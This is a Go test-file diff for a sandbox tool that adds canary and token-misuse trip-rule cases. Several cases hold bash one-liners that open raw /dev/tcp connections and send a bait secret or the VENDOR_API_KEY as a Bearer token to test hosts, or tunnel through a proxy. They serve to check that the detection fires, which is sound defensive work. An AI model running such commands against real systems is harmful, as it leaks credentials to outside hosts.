@@ -18,9 +18,12 @@ import (
 	"tagout/internal/wire"
 )
 
-// tripping returns card with trip rules.
+// tripCard is card with a canary among its credentials.
+var tripCard = strings.Replace(card, "- {secret: vendor_api, env: VENDOR_API_KEY}", "- {secret: vendor_api, env: VENDOR_API_KEY}\n    - {secret: bait, env: BAIT}", 1)
+
+// tripping returns tripCard with trip rules.
 func tripping(rules string) string {
-	return strings.Replace(card, "maxTime: 60s}", "maxTime: 60s, trip: ["+rules+"]}", 1)
+	return strings.Replace(tripCard, "maxTime: 60s}", "maxTime: 60s, trip: ["+rules+"]}", 1)
 }
 
 // tags returns the tags that hang on a kid.
@@ -94,6 +97,30 @@ var tripCases = []tripCase{
 	},
 	{name: "wall time", rule: "{on: wallTime, over: 3s}", do: "sleep 1000", reason: "trip rule wallTime over 3s: 3.", metric: "wallTime"},
 	{name: "CPU time", rule: "{on: cpuTime, over: 1s, fires: [session]}", do: "while :; do :; done", reason: "trip rule cpuTime over 1s: 1.", fires: []wire.Layer{wire.LayerSession}, metric: "cpuTime"},
+	{
+		name: "canary name, looked up", rule: "{on: canary, names: [vault.corp.test], fires: [session, network]}", metric: "canary",
+		do: "getent hosts VAULT.corp.test; sleep 1000", reason: "trip rule canary: vault.corp.test", fires: []wire.Layer{wire.LayerSession, wire.LayerNetwork},
+	},
+	{
+		name: "canary name, looked up among a flood", rule: `{on: canary, names: ["**.corp.test"]}`, metric: "canary",
+		do:     "for i in $(seq 100); do getent hosts n$i.nowhere.test & done; wait; getent hosts a.b.corp.test; sleep 1000",
+		reason: "trip rule canary: a.b.corp.test",
+	},
+	{
+		name: "canary name, asked of the proxy", rule: "{on: canary, names: [vault.corp.test]}", metric: "canary",
+		do:     `exec 3<>/dev/tcp/$(sed -n "s/nameserver //p" /etc/resolv.conf)/3128; printf "CONNECT vault.corp.test:443 HTTP/1.1\r\nHost: vault.corp.test:443\r\n\r\n" >&3; sleep 1000`,
+		reason: "trip rule canary: vault.corp.test",
+	},
+	{
+		name: "canary credential", rule: "{on: canary}", metric: "canary",
+		do:     `exec 3<>/dev/tcp/files.vendor.test/80; printf "GET / HTTP/1.1\r\nHost: files.vendor.test\r\nAuthorization: Bearer $BAIT\r\n\r\n" >&3; sleep 1000`,
+		reason: "trip rule canary: files.vendor.test:80: secret bait is a canary",
+	},
+	{
+		name: "token misuse", rule: "{on: tokenMisuse, fires: [credential]}", metric: "tokenMisuse", fires: []wire.Layer{wire.LayerCredential},
+		do:     `exec 3<>/dev/tcp/files.vendor.test/80; printf "GET / HTTP/1.1\r\nHost: files.vendor.test\r\nAuthorization: Bearer $VENDOR_API_KEY\r\n\r\n" >&3; sleep 1000`,
+		reason: "trip rule tokenMisuse: files.vendor.test:80: ",
+	},
 	{name: "processes", rule: "{on: processes, over: 40}", do: "for i in $(seq 60); do sleep 1000 & done; wait", reason: "trip rule processes over 40: ", metric: "processes"},
 }
 
@@ -102,6 +129,9 @@ var tripCases = []tripCase{
 func TestTripRules(t *testing.T) {
 	t.Parallel()
 	box := start(t)
+	if r := box.TagoutIn(strings.NewReader("a value that nobody gets"), "vault", "set", "bait", "--canary"); r.Code != 0 {
+		t.Fatalf("%+v", r)
+	}
 	for _, c := range tripCases {
 		t.Run(c.name, func(t *testing.T) { box := box.For(t); runTripCase(t, box, c) })
 	}
@@ -115,7 +145,7 @@ func TestTripRules(t *testing.T) {
 
 func runTripCase(t *testing.T, box *testenv.Box, c tripCase) {
 	t.Helper()
-	kid, control := box.Spawn(tripping(c.rule), hostile(t, box)), box.Spawn(card, hostile(t, box))
+	kid, control := box.Spawn(tripping(c.rule), hostile(t, box)), box.Spawn(tripCard, hostile(t, box))
 	defer box.Destroy(kid.Name)
 	defer box.Destroy(control.Name)
 	running(t, box, control.Name, "/bin/bash", "-c", c.do)
